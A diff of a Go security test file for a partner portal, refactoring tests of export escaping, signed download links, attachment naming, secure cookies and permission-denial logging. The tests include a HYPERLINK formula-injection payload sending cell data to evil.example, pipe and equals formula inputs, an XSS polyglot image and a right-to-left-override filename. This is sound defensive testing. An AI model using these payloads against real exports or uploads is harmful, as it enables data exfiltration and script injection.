@@ -3,7 +3,6 @@ package server_test
 // Tests of the security review's findings: each fails on the code before its fix.
 
 import (
-	"bytes"
 	"context"
 	"io"
 	"log/slog"
@@ -16,32 +15,17 @@ import (
 	"testing"
 	"time"
 
-	"partnerdesk/internal/app"
 	"partnerdesk/internal/app/apptest"
-	"partnerdesk/internal/demo"
 	"partnerdesk/internal/desk"
 
 	"github.com/PuerkitoBio/goquery"
 	"github.com/labstack/echo/v4"
 )
 
-// syncBuffer is a log destination the server goroutines write while the test reads.
-type syncBuffer struct {
-	mu sync.Mutex
-	b  bytes.Buffer
-}
-
-func (s *syncBuffer) Write(p []byte) (int, error) {
-	s.mu.Lock()
-	defer s.mu.Unlock()
-	return s.b.Write(p)
-}
-func (s *syncBuffer) String() string { s.mu.Lock(); defer s.mu.Unlock(); return s.b.String() }
-
 // startLogged starts PartnerDesk with its log captured.
-func startLogged(t *testing.T, format string) (*apptest.Env, *syncBuffer) {
-	buf := &syncBuffer{}
-	env := apptest.StartWith(t, func(c *app.Config) {
+func startLogged(t *testing.T, format string) (*apptest.Env, *apptest.SyncBuffer) {
+	buf := &apptest.SyncBuffer{}
+	env := apptest.StartWith(t, func(c *apptest.Config) {
 		c.Logger = slog.New(slog.NewTextHandler(buf, nil))
 		if format == "json" {
 			c.Logger = slog.New(slog.NewJSONHandler(buf, nil))
@@ -59,7 +43,7 @@ func secCopyLink(t *testing.T, env *apptest.Env) (token string, ed desk.Edition,
 	if !ok {
 		t.Fatal("no edition")
 	}
-	u, _, err := env.App.Store.FindUserByEmail(context.Background(), swUsers["admin"])
+	u, _, err := env.App.Store.FindUserByEmail(context.Background(), apptest.AdminAgent)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -128,7 +112,7 @@ func TestLogsNeverHoldSignedLinks(t *testing.T) {
 func TestExportsNeutraliseFormulas(t *testing.T) {
 	env := apptest.Start(t)
 	ctx := context.Background()
-	admin := env.SignIn(t, swUsers["admin"])
+	admin := env.SignIn(t, apptest.AdminAgent)
 	before := cnSupportCount(t, env)
 	for _, ref := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Refund")`, " =1+1", "|calc", "ORDER 1"} {
 		f := cnSupportFields()
@@ -148,7 +132,7 @@ func TestExportsNeutraliseFormulas(t *testing.T) {
 		actAppend(t, env, desk.Event{At: apptest.Epoch.Add(time.Duration(i) * time.Second), Operation: desk.OpFileSupport, ResourceType: "support_request",
 			CustomerID: apptest.ContosoID, CustomerName: v, ActorEmail: v, Product: v, OrderID: v, IP: "127.0.0.1", Detail: v})
 	}
-	_, recs := actCSV(t, env, env.SignIn(t, swUsers["global"]), url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpFileSupport}})
+	_, recs := actCSV(t, env, env.SignIn(t, apptest.GlobalAdmin), url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpFileSupport}})
 	if len(recs)-1 != len(cells) {
 		t.Fatalf("%d rows, want %d", len(recs)-1, len(cells))
 	}
@@ -160,14 +144,14 @@ func TestExportsNeutraliseFormulas(t *testing.T) {
 		}
 	}
 	// The invoice export too: a customer named like a formula, with an order.
-	ga := env.SignIn(t, swUsers["global"])
+	ga := env.SignIn(t, apptest.GlobalAdmin)
 	id := actNewCustomer(t, env, ga, "|calc Ltd.", "pipecalc")
 	offer, _ := demoOfferPair(t)
-	o, _, err := env.App.Service.PlaceOrder(ctx, actActor(t, env, swUsers["sales"], "127.0.0.1"), id, "csv-pipe", []desk.CartLine{{OfferID: offer, Quantity: 1}})
+	o, _, err := env.App.Service.PlaceOrder(ctx, env.Actor(t, apptest.SalesAgent), id, "csv-pipe", []desk.CartLine{{OfferID: offer, Quantity: 1}})
 	if err != nil {
 		t.Fatal(err)
 	}
-	res := env.Get(t, env.SignIn(t, swUsers["billing"]), "/billing/invoices/"+desk.InvoiceID(desk.Period(o.CreatedAt), o.Currency)+"/csv")
+	res := env.Get(t, env.SignIn(t, apptest.BillingAdmin), "/billing/invoices/"+desk.InvoiceID(desk.Period(o.CreatedAt), o.Currency)+"/csv")
 	if res.StatusCode != http.StatusOK || !strings.Contains(res.Body, ",'|calc Ltd.,") || strings.Contains(res.Body, ",|calc") {
 		t.Errorf("invoice export: %d, the customer name not neutralised:\n%.600s", res.StatusCode, res.Body)
 	}
@@ -180,10 +164,7 @@ func TestExportsNeutraliseFormulas(t *testing.T) {
 // demoOfferPair is a perpetual Windows Server offer (sold in every market).
 func demoOfferPair(t *testing.T) (string, string) {
 	t.Helper()
-	o, ok := demo.ResolveOffer(demo.Catalog(), "Windows Server 2022 Standard - 2 Core", desk.TermNone)
-	if !ok {
-		t.Fatal("no Windows Server offer")
-	}
+	o := apptest.Offer(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone)
 	return o.ID, o.Title
 }
 
@@ -191,14 +172,14 @@ func demoOfferPair(t *testing.T) (string, string) {
 // it: a purchase that has never been downloaded.
 func secFreshLink(t *testing.T, env *apptest.Env) (path string, ed desk.Edition, o desk.Order) {
 	t.Helper()
-	o = cnPlace(t, env, apptest.ContosoID, cnLine(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 1))
+	o = env.PlaceOrder(t, apptest.ContosoID, apptest.Line(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 1))
 	ent := o.Lines[0].EntitlementID
 	ref := desk.EditionRef{Version: "2022", Language: "hu-hu", Bitness: "64-bit"}
-	link, err := env.App.Service.IssueLink(context.Background(), cnActor(t, env, swUsers["admin"]), apptest.ContosoID, ent, ref, true)
+	link, err := env.App.Service.IssueLink(context.Background(), env.Actor(t, apptest.AdminAgent), apptest.ContosoID, ent, ref, true)
 	if err != nil {
 		t.Fatal(err)
 	}
-	_, items, err := env.App.Service.Software(context.Background(), cnActor(t, env, swUsers["admin"]), apptest.ContosoID)
+	_, items, err := env.App.Service.Software(context.Background(), env.Actor(t, apptest.AdminAgent), apptest.ContosoID)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -216,7 +197,7 @@ func secDownloaded(t *testing.T, env *apptest.Env, o desk.Order) (bool, int) {
 	t.Helper()
 	it := secItem(t, env, o.Lines[0].EntitlementID)
 	n := 0
-	for _, e := range swEvents(t, env, desk.OpSharedDownload) {
+	for _, e := range env.EventsSinceEpoch(t, desk.OpSharedDownload, 500) {
 		if e.OrderID == o.ID {
 			n++
 		}
@@ -226,7 +207,7 @@ func secDownloaded(t *testing.T, env *apptest.Env, o desk.Order) (bool, int) {
 
 func secItem(t *testing.T, env *apptest.Env, ent string) desk.SoftwareItem {
 	t.Helper()
-	_, it, err := env.App.Service.SoftwareItem(context.Background(), cnActor(t, env, swUsers["admin"]), apptest.ContosoID, ent)
+	_, it, err := env.App.Service.SoftwareItem(context.Background(), env.Actor(t, apptest.AdminAgent), apptest.ContosoID, ent)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -280,7 +261,7 @@ func TestRangeDownloadsAreRecorded(t *testing.T) {
 			if ct := res.Header.Get("Content-Type"); strings.HasPrefix(ct, "multipart/") {
 				t.Errorf("several ranges served as %s", ct)
 			}
-			if tt.whole && (int64(len(res.Body)) != ed.Size || swSHA([]byte(res.Body)) != ed.SHA256) {
+			if tt.whole && (int64(len(res.Body)) != ed.Size || apptest.SHA256([]byte(res.Body)) != ed.SHA256) {
 				t.Errorf("body: %d bytes, want the whole file (%d)", len(res.Body), ed.Size)
 			}
 			marked, n := secDownloaded(t, env, o)
@@ -291,7 +272,7 @@ func TestRangeDownloadsAreRecorded(t *testing.T) {
 				return
 			}
 			// The cancel dialog sees it: a support request, not a cancellation.
-			admin := env.SignIn(t, swUsers["admin"])
+			admin := env.SignIn(t, apptest.AdminAgent)
 			d := doc(t, env.Get(t, admin, cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)+"/cancel?order_id="+o.ID).Body)
 			if st := testid(d, "cancel-info").AttrOr("data-state", ""); st != desk.CancelNeedsSupport {
 				t.Errorf("cancel dialog state %q after the download, want %s", st, desk.CancelNeedsSupport)
@@ -320,7 +301,7 @@ func TestSharedLinkDownloadClaimedOncePerLink(t *testing.T) {
 	path, ed, o := secFreshLink(t, env)
 	ent := o.Lines[0].EntitlementID
 	ref := desk.EditionRef{Version: "2022", Language: "hu-hu", Bitness: "64-bit"}
-	admin := cnActor(t, env, swUsers["admin"])
+	admin := env.Actor(t, apptest.AdminAgent)
 	own, err := env.App.Service.IssueLink(ctx, admin, apptest.ContosoID, ent, ref, false)
 	if err != nil {
 		t.Fatal(err)
@@ -391,7 +372,7 @@ func TestDeliveryRefusedAfterCancellation(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if _, _, err := env.App.Service.Cancel(context.Background(), cnActor(t, env, swUsers["admin"]), desk.CancelRequest{CustomerID: apptest.ContosoID, OrderID: o.ID, Lines: []int{0}}); err != nil {
+	if _, _, err := env.App.Service.Cancel(context.Background(), env.Actor(t, apptest.AdminAgent), desk.CancelRequest{CustomerID: apptest.ContosoID, OrderID: o.ID, Lines: []int{0}}); err != nil {
 		t.Fatal(err)
 	}
 	if err := env.App.Service.Deliver(context.Background(), dl, "203.0.113.1"); desk.ErrorCode(err) != desk.EGONE {
@@ -412,7 +393,7 @@ func TestCancelOverrideInDialog(t *testing.T) {
 	base := cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)
 
 	// The Admin agent sees the support request link and no way around it.
-	agent := env.SignIn(t, swUsers["admin"])
+	agent := env.SignIn(t, apptest.AdminAgent)
 	d := doc(t, env.Get(t, agent, base+"/cancel?order_id="+o.ID).Body)
 	if testid(d, "needs-support").Length() != 1 || testid(d, "override").Length() != 0 || testid(d, "cancel-submit").Length() != 0 {
 		t.Fatalf("the Admin agent's dialog: needs-support %d, override %d, submit %d", testid(d, "needs-support").Length(), testid(d, "override").Length(), testid(d, "cancel-submit").Length())
@@ -427,7 +408,7 @@ func TestCancelOverrideInDialog(t *testing.T) {
 	}
 	cnUnchanged(t, env, apptest.ContosoID, o.ID, "after the refused attempts")
 	denied := false
-	for _, ev := range swEvents(t, env, desk.OpPermissionDenied) {
+	for _, ev := range env.EventsSinceEpoch(t, desk.OpPermissionDenied, 500) {
 		denied = denied || strings.HasPrefix(ev.Detail, string(desk.PermOverrideCancelPolicy)+" ")
 	}
 	if !denied {
@@ -435,7 +416,7 @@ func TestCancelOverrideInDialog(t *testing.T) {
 	}
 
 	// The Global admin sees the override: a reason, the Important message and its checkbox.
-	global := env.SignIn(t, swUsers["global"])
+	global := env.SignIn(t, apptest.GlobalAdmin)
 	d = doc(t, env.Get(t, global, base+"/cancel?order_id="+o.ID).Body)
 	if testid(d, "override").Length() != 1 || testid(d, "override-reason").Length() != 1 || testid(d, "cancel-ack").Length() != 1 || testid(d, "cancel-submit").Length() != 1 {
 		t.Fatal("the Global admin's dialog offers no override")
@@ -457,7 +438,7 @@ func TestCancelOverrideInDialog(t *testing.T) {
 		t.Fatalf("after the override: %s, %d cancellations", st, n)
 	}
 	// The activity log names the override and its reason, in both languages.
-	ref := env.SignIn(t, swUsers["referrals"])
+	ref := env.SignIn(t, apptest.ReferralsAdmin)
 	_, page := actPage(t, env, ref, url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpUpdateOrder}})
 	if txt := page.Text(); !strings.Contains(txt, "support-request rule overridden: SR-000042 approved") {
 		t.Errorf("the activity log does not show the override's reason")
@@ -492,7 +473,7 @@ func secDo(t *testing.T, env *apptest.Env, method, host, path string, form url.V
 // links are built on it and other Host names get 421.
 func TestSecureDeployment(t *testing.T) {
 	const host = "desk.example.com"
-	env := apptest.StartWith(t, func(c *app.Config) { c.SecureCookies, c.BaseURL = true, "https://DESK.example.com/" })
+	env := apptest.StartWith(t, func(c *apptest.Config) { c.SecureCookies, c.BaseURL = true, "https://DESK.example.com/" })
 
 	// Another Host: 421, for the portal, the API and a download link; /healthz answers any Host.
 	token, _, _ := secCopyLink(t, env)
@@ -517,7 +498,7 @@ func TestSecureDeployment(t *testing.T) {
 	}
 
 	// Sign in: the session cookie is __Host-, Secure, HttpOnly, for / and no domain; HSTS.
-	res := secDo(t, env, "POST", host, "/signin", url.Values{"email": {swUsers["global"]}, "password": {"partnerdesk-demo"}}, nil)
+	res := secDo(t, env, "POST", host, "/signin", url.Values{"email": {apptest.GlobalAdmin}, "password": {"partnerdesk-demo"}}, nil)
 	if res.StatusCode != http.StatusSeeOther {
 		t.Fatalf("sign in: %d", res.StatusCode)
 	}
@@ -542,7 +523,7 @@ func TestSecureDeployment(t *testing.T) {
 		{"GET", "/customers", nil},
 		{"GET", "/settings/activity", nil},
 		{"POST", "/settings/users", url.Values{"email": {"one-time@partner.example"}, "display_name": {"One Time"}, "role": {"sales-agent"}}},
-		{"POST", "/settings/tokens", url.Values{"email": {swUsers["admin"]}, "name": {"nightly"}, "days": {"30"}}},
+		{"POST", "/settings/tokens", url.Values{"email": {apptest.AdminAgent}, "name": {"nightly"}, "days": {"30"}}},
 	} {
 		res := secDo(t, env, r.method, host, r.path, r.form, jar)
 		if res.StatusCode != http.StatusOK || res.Header.Get("Cache-Control") != "no-store" || res.Header.Get("Strict-Transport-Security") == "" {
@@ -564,7 +545,7 @@ func TestSecureDeployment(t *testing.T) {
 	if res := secDo(t, env, "GET", host, "/settings/api", nil, jar); !strings.Contains(res.Body, "https://desk.example.com/v1/openapi.json") || strings.Contains(res.Body, "127.0.0.1") {
 		t.Errorf("the API page's examples do not use the base URL")
 	}
-	_, secret, err := env.App.Service.CreateTokenCLI(context.Background(), swUsers["admin"], "base-url", time.Hour)
+	_, secret, err := env.App.Service.CreateTokenCLI(context.Background(), apptest.AdminAgent, "base-url", time.Hour)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -587,13 +568,13 @@ func TestCacheControlWithoutTLS(t *testing.T) {
 	if res.Header.Get("Strict-Transport-Security") != "" {
 		t.Error("HSTS without secure cookies")
 	}
-	c := env.SignIn(t, swUsers["admin"])
+	c := env.SignIn(t, apptest.AdminAgent)
 	for _, p := range []string{"/customers", "/customers/" + apptest.ContosoID + "/software", "/support"} {
 		if res := env.Get(t, c, p); res.StatusCode != http.StatusOK || res.Header.Get("Cache-Control") != "no-store" {
 			t.Errorf("GET %s: %d, Cache-Control %q", p, res.StatusCode, res.Header.Get("Cache-Control"))
 		}
 	}
-	_, secret, err := env.App.Service.CreateTokenCLI(context.Background(), swUsers["admin"], "cache", time.Hour)
+	_, secret, err := env.App.Service.CreateTokenCLI(context.Background(), apptest.AdminAgent, "cache", time.Hour)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -614,7 +595,7 @@ const unknownGUID = "00000000-0000-4000-8000-000000000000"
 // override), and is given per RFC 6266 with filename*.
 func TestAttachmentNamesFollowTheirContent(t *testing.T) {
 	env := apptest.Start(t)
-	c := env.SignIn(t, swUsers["admin"])
+	c := env.SignIn(t, apptest.AdminAgent)
 	polyglot := []byte("GIF89a/*<html><script>alert(document.domain)</script></html>*/")
 	res := cnFileSupport(t, env, c, cnSupportFields(), cnFile{"evil.html", polyglot}, cnFile{"számla\u202efdp.exe.png", cnPNG(t)})
 	if res.StatusCode != http.StatusSeeOther {
@@ -648,16 +629,16 @@ func TestAttachmentNamesFollowTheirContent(t *testing.T) {
 func TestDenialsAggregatedPerUserRouteMinute(t *testing.T) {
 	env := apptest.Start(t)
 	ctx := context.Background()
-	denials := func() []desk.Event { return swEvents(t, env, desk.OpPermissionDenied) }
+	denials := func() []desk.Event { return env.EventsSinceEpoch(t, desk.OpPermissionDenied, 500) }
 	before := len(denials())
-	sales := env.SignIn(t, swUsers["sales"])
+	sales := env.SignIn(t, apptest.SalesAgent)
 	for i := 0; i < 30; i++ {
 		if res := env.Get(t, sales, "/settings/activity?from=2026-11-0"+strconv.Itoa(1+i%9)); res.StatusCode != http.StatusForbidden {
 			t.Fatalf("denial %d: %d", i, res.StatusCode)
 		}
 	}
-	env.Get(t, sales, "/settings/users")                              // another route
-	env.Get(t, env.SignIn(t, swUsers["helpdesk"]), "/settings/users") // another user
+	env.Get(t, sales, "/settings/users")                           // another route
+	env.Get(t, env.SignIn(t, apptest.Helpdesk), "/settings/users") // another user
 	if n := len(denials()) - before; n != 3 {
 		t.Fatalf("%d permission_denied events for 30 refusals of one route, one of another and one of another user; want 3", n)
 	}
@@ -670,7 +651,7 @@ func TestDenialsAggregatedPerUserRouteMinute(t *testing.T) {
 		t.Fatalf("flush after the minute: %d events, %v; want 1", n, err)
 	}
 	evs := denials()
-	if len(evs)-before != 4 || evs[0].ActorEmail != swUsers["sales"] || !strings.HasSuffix(evs[0].Detail, "(29 more in that minute)") {
+	if len(evs)-before != 4 || evs[0].ActorEmail != apptest.SalesAgent || !strings.HasSuffix(evs[0].Detail, "(29 more in that minute)") {
 		t.Fatalf("the summary event: %+v", evs[0])
 	}
 	d := desk.ParseDetail(evs[0].Operation, evs[0].Detail)
@@ -681,12 +662,12 @@ func TestDenialsAggregatedPerUserRouteMinute(t *testing.T) {
 		t.Fatalf("a second flush recorded %d more", n)
 	}
 	// The activity page shows it in words.
-	res := env.Get(t, env.SignIn(t, swUsers["global"]), "/settings/activity?from=2026-11-25&to=2026-11-25&action="+desk.OpPermissionDenied)
+	res := env.Get(t, env.SignIn(t, apptest.GlobalAdmin), "/settings/activity?from=2026-11-25&to=2026-11-25&action="+desk.OpPermissionDenied)
 	if !strings.Contains(res.Body, "29 more times in that minute") {
 		t.Errorf("the activity page does not show the count")
 	}
 	// The API's refusals: 10 of one token in a minute, one event.
-	_, secret, err := env.App.Service.CreateTokenCLI(ctx, swUsers["billing"], "denials", time.Hour)
+	_, secret, err := env.App.Service.CreateTokenCLI(ctx, apptest.BillingAdmin, "denials", time.Hour)
 	if err != nil {
 		t.Fatal(err)
 	}
